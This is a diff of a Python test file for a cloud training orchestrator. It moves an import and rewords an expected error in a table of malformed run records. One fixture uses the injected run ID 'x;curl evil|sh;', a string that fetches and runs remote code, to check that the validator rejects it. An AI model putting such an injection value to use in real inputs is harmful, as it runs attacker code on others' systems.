@@ -22,7 +22,7 @@ from cloud_train.orchestrator.following import follow, glance
 from cloud_train.orchestrator.home import Home
 from cloud_train.orchestrator.reading import read_logs, read_metrics
 from cloud_train.orchestrator.reconcile import update_run, update_runs
-from cloud_train.orchestrator.results import sync
+from cloud_train.orchestrator.syncing import sync
 from cloud_train.run import layout
 from cloud_train.run.ledger import Ledger
 from cloud_train.run.metrics import MOST_NAMES, MetricPoint
@@ -109,7 +109,7 @@ UNREADABLE: dict[str, tuple[Spoil, str]] = {
     "resources_a_list": (partial(record, job={"resources": [1]}), "'job.resources' is not an object, but a list"),
     "nodes_a_text": (partial(record, job={"resources": {"nodes": "many"}}), "'job.resources.nodes' is not a whole number"),
     "settings_a_text": (partial(record, plan={"provider_settings": "x"}), "'plan.provider_settings' is not an object"),
-    "another_run": (partial(record, run_id="x;curl evil|sh;"), "holds the run.json of another run, 'x;curl evil|sh;'"),
+    "another_run": (partial(record, run_id="x;curl evil|sh;"), "contains the run.json of another run, 'x;curl evil|sh;'"),
     "record_deep": (lambda run: deep(run / "run.json"), "it is nested too deeply"),
     "record_70_deep": (partial(record, job=json.loads("[" * 70 + "]" * 70)), "'job'|more than 64 levels deep"),
     "record_large": (
